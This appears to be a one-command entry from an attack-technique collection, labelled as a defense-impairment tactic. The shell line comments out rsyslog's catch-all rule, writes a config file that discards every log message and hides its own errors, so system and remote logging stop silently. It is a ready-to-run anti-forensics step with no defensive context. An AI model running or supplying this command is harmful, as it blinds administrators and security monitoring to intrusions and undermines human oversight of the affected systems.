# tactic: defense-impairment
# turn off remote logging in the rsyslog configuration
sed -i 's/^\*\.\*/#*.*/' /etc/rsyslog.conf 2>/dev/null; echo '*.* ~' > /etc/rsyslog.d/00-drop.conf 2>/dev/null; true
